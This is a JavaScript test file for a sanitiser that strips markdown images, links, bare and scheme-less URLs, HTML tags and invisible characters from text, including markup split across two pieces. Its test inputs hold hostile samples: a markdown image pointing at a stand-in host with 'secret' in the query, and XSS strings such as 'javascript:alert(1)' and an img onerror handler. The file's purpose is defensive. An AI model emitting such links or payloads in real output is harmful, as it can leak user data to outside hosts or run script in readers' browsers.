import { sanitise } from './sanitise.js';

describe('sanitise', () => {
  it.each([
    ['images', 'See ![map](https://evil.test/?q=secret) here.', 'See  here.'],
    ['links, keeping their words', 'Ask [your insurer](https://evil.test/x).', 'Ask your insurer.'],
    ['addresses', 'Go to https://evil.test/?d=1 now.', 'Go to (link removed) now.'],
    [
      'addresses without a scheme',
      'Go to www.evil.test/x or //evil.test/y',
      'Go to (link removed) or (link removed)',
    ],
    ['other schemes', 'javascript:alert(1) and data:text/html,x', '(link removed)) and (link removed)'],
    ['HTML', 'a<img src=x onerror=alert(1)>b<script>c</script>d<!-- e -->f', 'abcdf'],
    ['automatic links', 'Mail <mailto:a@evil.test> or <https://evil.test>', 'Mail  or '],
    ['invisible characters', 'co\u200bpay', 'copay'],
  ])('takes %s away', (_, text, expected) => {
    expect(sanitise(text)).toBe(expected);
  });

  it('keeps a marker that was written as a link a marker', () => {
    expect(sanitise('It is $5 [1](https://evil.test).')).toBe('It is $5 [1].');
  });

  it.each([
    ['an image cut in two', ['![a](<//evil.test/x.', ' Png>)']],
    ['a link cut in two', ['[click](<//evil.test/x.', ' Html>)']],
    ['a definition that makes links of markers', ['[1]: //evil.test', ' "x"']],
    ['a tag cut in two', ['<img src="x.', ' Y" onerror=z>']],
  ])('takes markup apart also when it comes in two pieces: %s', (_, pieces) => {
    const text = pieces.map(sanitise).join('');
    expect(text).not.toMatch(/!\[|\]\(|\]:|<[a-z/!]/i);
    expect(text).not.toContain('evil.test');
  });

  it('leaves ordinary text alone', () => {
    const text = 'You pay "$250 copay/visit" [1][2]; 20 % after (see page 3) — BMI < 30, 1:1, a // b.';
    expect(sanitise(text)).toBe(text);
  });

  it('is done when it was done once', () => {
    for (const text of ['![a](b) <b>c</b>', '[[a](b)](c)', '!![a](b)[c](d)', '<<img>img>']) {
      expect(sanitise(sanitise(text))).toBe(sanitise(text));
      expect(sanitise(text)).not.toMatch(/!\[|\]\(|<[a-z/!]/i);
    }
  });
});
